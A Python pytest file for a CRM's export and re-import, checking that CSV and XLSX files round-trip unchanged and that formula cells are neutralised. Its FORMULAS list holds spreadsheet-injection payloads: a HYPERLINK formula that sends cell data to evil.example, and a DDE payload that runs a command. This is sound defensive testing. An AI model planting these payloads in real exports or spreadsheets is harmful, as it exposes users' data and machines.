"""An exported file re-imports with no change to any value (issue 10): into the same
database as an update that finds nothing to change, and into a fresh database as the
same customers. Formula cells are neutralised in the file and restored on import; masked
cells never overwrite or become values; the CSV is what Excel reads (BOM, quoting)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import customer_data, hostile_strings, make_database, signed_in
from tui_crm import export
from tui_crm import validation as v
from tui_crm.db import Database
from tui_crm.importer import ImportOptions, ImportSummary
from tui_crm.listing import CustomerQuery
from tui_crm.service import Service

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "'=already quoted",
    "'t Hooft",
]
# Columns a fresh database cannot have the same: its codes are its own, tags are not
# imported, and the next follow-up comes from follow-ups, not from a file.
NOT_CARRIED = {"code", "tags", "next_followup_at"}


def messy_customers(admin: Service) -> int:
    """Customers with formulas, Chinese text, quotes, commas, line breaks and hostile text
    in every kind of field, as the form would have accepted them."""
    people = [
        customer_data(
            name="北京星辰科技有限公司",
            contact_name="张伟",
            contact_title="采购经理, 华北区",
            phone="13800138000",
            email="Zhang.Wei@XingChen.example",
            address="北京市海淀区中关村大街1号, 3层",
            province="北京",
            city="北京",
            credit_code="91110108MA01ABCD84",
            industry="I",
            company_size="50-249",
            source="referral",
            notes='第一行, "引号"\n第二行\n=SUM(A1)',
            owner="sales1",
            customer_type="customer",
        ),
        customer_data(
            name=FORMULAS[0],
            contact_name=FORMULAS[1],
            contact_title=FORMULAS[2],
            phone="+852 5123 4567",
            email="ops@formula.example",
            city=FORMULAS[6],
            notes="\n".join(FORMULAS),
            owner="sales2",
        ),
        customer_data(
            name="王芳",
            kind="person",
            contact_name="@王芳",
            phone="001-808-617-6467x12895",
            email="wf@example.com",
            id_number="110101199003071233",
            address="-上海市徐汇区",
            notes="+86 备注",
            owner=None,
        ),
        customer_data(
            name="Already Quoted Co", contact_title=FORMULAS[5], phone="13900000001", email=""
        ),
    ]
    for n, item in enumerate(hostile_strings()):
        people.append(
            customer_data(
                name=f"Hostile {item['text']}",
                contact_name=item["text"][:100],
                notes=item["text"],
                phone=f"1370000{n:04d}",
                email=f"h{n}@example.com",
            )
        )
    made = 0
    for data in people:
        try:
            admin.customers.create(data)
        except v.FormErrors:
            continue  # text the form refuses is not customer data
        made += 1
    return made


@pytest.fixture
def admin(session: Callable[[str], Service]) -> Service:
    admin = session("admin")
    messy_customers(admin)
    return admin


def table(path: Path) -> list[dict[str, str]]:
    """The rows of an exported CSV or XLSX by field, as the importer reads them back."""
    from tui_crm.tabular import iter_rows, open_table, restore

    source = open_table(path)
    rows = [cells for line, cells in iter_rows(source) if line > source.header_line]
    fields = [c.field for c in export.COLUMNS]
    if source.kind == "csv":
        rows = [[restore(cell) for cell in row] for row in rows]
    return [dict(zip(fields, row + [""] * (len(fields) - len(row)), strict=True)) for row in rows]


def comparable(rows: list[dict[str, str]]) -> list[tuple[tuple[str, str], ...]]:
    return sorted(
        tuple(sorted((k, val) for k, val in row.items() if k not in NOT_CARRIED)) for row in rows
    )


def run_import(
    user: Service, path: Path, strategy: str, mapping: dict[str, str] | None = None
) -> ImportSummary:
    options = ImportOptions("consent", strategy=strategy, mapping=mapping or {}, workers=0)
    return user.imports.run(path, options)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_revealed_export_updates_nothing(admin: Service, tmp_path: Path, fmt: str) -> None:
    first = tmp_path / f"first.{fmt}"
    result = admin.exports.customers(CustomerQuery(), first, reveal=True)
    before = table(first)
    summary = run_import(admin, first, "update")
    assert (summary.created, summary.updated, summary.rejected) == (0, 0, 0), summary
    assert summary.skipped == result.rows
    assert all("no changes" in reason for _line, reason in summary.skipped_rows)
    again = tmp_path / f"again.{fmt}"
    admin.exports.customers(CustomerQuery(), again, reveal=True)
    assert table(again) == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_revealed_export_recreates_the_customers_elsewhere(
    admin: Service, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"out.{fmt}"
    result = admin.exports.customers(CustomerQuery(), out, reveal=True)
    fresh = make_database(tmp_path / "fresh")
    try:
        other = signed_in(fresh, "admin")
        refused = run_import(other, out, "skip")  # the codes name no customer here
        assert (refused.created, refused.rejected) == (0, result.rows)
        reasons = {why for _line, errors in refused.rejected_rows for why in errors.values()}
        assert all("is not a customer code of this database" in why for why in reasons)
        summary = run_import(other, out, "skip", mapping={"#1": ""})  # Code ignored
        assert (summary.created, summary.rejected, summary.skipped) == (result.rows, 0, 0)
        back = tmp_path / f"back.{fmt}"
        other.exports.customers(CustomerQuery(), back, reveal=True)
    finally:
        fresh.close()
    assert comparable(table(back)) == comparable(table(out))
    assert FORMULAS[0] in {row["name"] for row in table(back)}
    assert FORMULAS[5] in {row["contact_title"] for row in table(back)}


def test_a_masked_export_changes_nothing(admin: Service, db: Database, tmp_path: Path) -> None:
    out = tmp_path / "masked.csv"
    admin.exports.customers(CustomerQuery(), out)
    revealed = tmp_path / "revealed.csv"
    admin.exports.customers(CustomerQuery(), revealed, reveal=True)
    before = table(revealed)
    summary = run_import(admin, out, "update")
    assert (summary.created, summary.updated, summary.rejected) == (0, 0, 0), summary
    assert summary.skipped == len(before)  # every row found by its code: masked is no change
    assert all("no changes" in reason for _line, reason in summary.skipped_rows)
    after = tmp_path / "after.csv"
    admin.exports.customers(CustomerQuery(), after, reveal=True)
    assert table(after) == before


def test_the_csv_is_what_excel_reads(admin: Service, tmp_path: Path) -> None:
    out = tmp_path / "excel.csv"
    admin.exports.customers(CustomerQuery(), out, reveal=True)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only after a BOM
    text = raw[3:].decode("utf-8")
    assert '"第一行, ""引号""\n第二行\n=SUM(A1)"' in text  # comma, quote, line breaks
    assert '"采购经理, 华北区"' in text and "\r\n" in text
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle, dialect="excel") for cell in row]
    assert all(not cell or cell[0] not in "=+-@\t\r\n" for cell in cells)
    assert "'" + FORMULAS[0] in cells and "'+85251234567" in cells
    assert "'" + FORMULAS[5] in cells and "'+1+1" in cells


def test_a_foreign_file_keeps_its_apostrophes(db: Database, session, tmp_path: Path) -> None:
    path = tmp_path / "foreign.csv"
    path.write_text(
        "客户名称,联系人,手机,客户类型,备注\nHooft Trading,'t Hooft,13800000001,成交,'=1+1\n",
        encoding="utf-8",
    )
    summary = run_import(session("admin"), path, "skip")
    assert summary.created == 1
    row = db.conn.execute("SELECT contact_name, notes FROM customers").fetchone()
    assert (row["contact_name"], row["notes"]) == ("'t Hooft", "=1+1")
